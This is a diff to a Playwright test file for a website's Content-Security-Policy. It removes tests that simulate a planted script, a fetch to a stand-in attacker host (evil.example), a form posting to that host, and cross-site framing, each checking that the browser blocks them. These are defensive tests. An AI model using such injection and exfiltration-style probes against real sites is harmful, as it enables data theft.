@@ -1,8 +1,5 @@
 /** The Content-Security-Policy in the browser: it blocks everything except the site's own files. */
-import { once } from 'node:events';
-import { globSync, readFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { globSync } from 'node:fs';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
 import { pagePath } from '../../src/hosts/builtSite.ts';
@@ -15,8 +12,6 @@ const urls = [...globSync('**/*.html', { cwd: dist }).map((file) => pagePath(fil
 declare global {
   var blocked: string[];
   var ran: unknown;
-  // TypeScript doesn't have these types yet.
-  var trustedTypes: { createPolicy(name: string, rules: Record<string, (text: string) => string>): unknown };
 }
 
 /** Stores what the browser blocks in the page's `blocked`: the directive, and `inline` or the host. */
@@ -95,50 +90,4 @@ test.describe("the page's own policy, which the header's contains", () => {
     expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
     await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   });
-
-  test('blocks the actions of a planted script', async ({ page }) => {
-    await openWith(page, '');
-    const thrown = await page.evaluate(() => {
-      const attempts = [
-        () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
-        () => Object.assign(document.createElement('script'), { src: '/_astro/x.js' }),
-        () => trustedTypes.createPolicy('x', { createHTML: (html) => html }),
-        () => setTimeout('ran = 1'),
-      ];
-      return attempts.map((attempt) => {
-        try {
-          attempt();
-          return 'nothing';
-        } catch (error) {
-          return (error as Error).name;
-        }
-      });
-    });
-    expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError', expect.stringMatching(/TypeError|EvalError/)]);
-    expect(await page.evaluate(() => fetch('https://evil.example/').catch(() => 'blocked'))).toBe('blocked');
-    expect(await blockedIn(page)).toEqual(
-      expect.arrayContaining(['connect-src evil.example', 'trusted-types trusted-types-policy']),
-    );
-  });
-
-  test('sends forms nowhere but to the service and the site', async ({ page }) => {
-    await openWith(page, '<form method="post" action="https://evil.example/"><button>Take this</button></form>');
-    // Playwright would wait for the blocked navigation.
-    await page.getByRole('button', { name: 'Take this' }).click({ noWaitAfter: true });
-    await expect.poll(() => blockedIn(page)).toContain('form-action evil.example');
-    const allowed = inPage(readFileSync(join(dist, 'contact.html'), 'utf8'))?.match(/form-action ([^;]*)/)?.[1];
-    expect(allowed).toBe("'self' https://formsubmit.co");
-  });
-});
-
-test('no other site can frame a page', async ({ page, baseURL, expected }) => {
-  expected.push(/./);
-  const other = createServer((_, response) => {
-    response.setHeader('Content-Type', 'text/html');
-    response.end(`<iframe src="${baseURL}/contact"></iframe>`);
-  }).listen(0, '127.0.0.1');
-  await once(other, 'listening');
-  await page.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
-  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^(chrome-error:|about:neterror)/);
-  other.close();
 });
